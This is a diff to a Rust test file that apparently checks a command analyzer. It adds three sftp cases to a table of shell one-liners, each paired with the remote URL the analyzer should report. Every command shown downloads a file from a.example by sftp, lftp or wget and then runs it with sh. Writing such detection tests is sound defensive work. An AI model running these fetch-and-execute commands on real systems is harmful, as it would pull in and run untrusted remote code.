@@ -38,8 +38,11 @@ fn what_is_fetched_and_run_is_known_in_each_form() {
 
 #[test]
 fn what_a_file_of_addresses_or_options_names_or_another_protocol_brings_is_known_until_it_runs() {
-    let cases: [(&str, &str); 22] = [
+    let cases: [(&str, &str); 25] = [
         ("echo 'get d/x /tmp/y' > b.txt; sftp -b b.txt u@a.example; sh /tmp/y", "ftp://a.example"),
+        ("echo 'get d/x' > a.example; sftp -b a.example a.example; sh x", "ftp://a.example"),
+        ("echo 'get d/x' > b; sftp -bb a.example; sh x", "ftp://a.example"),
+        ("echo 'get d/x' | sftp -f a.example; sh x", "ftp://a.example"),
         ("echo 'get d/x' > b.lftp; lftp -f b.lftp a.example; sh x", "ftp://a.example"),
         ("echo http://a.example/x > /tmp/l; wget -qi /tmp/l -O /tmp/y; sh /tmp/y", "http://a.example/x"),
         ("echo http://a.example/x | wget -q -i -; sh x", "http://a.example/x"),
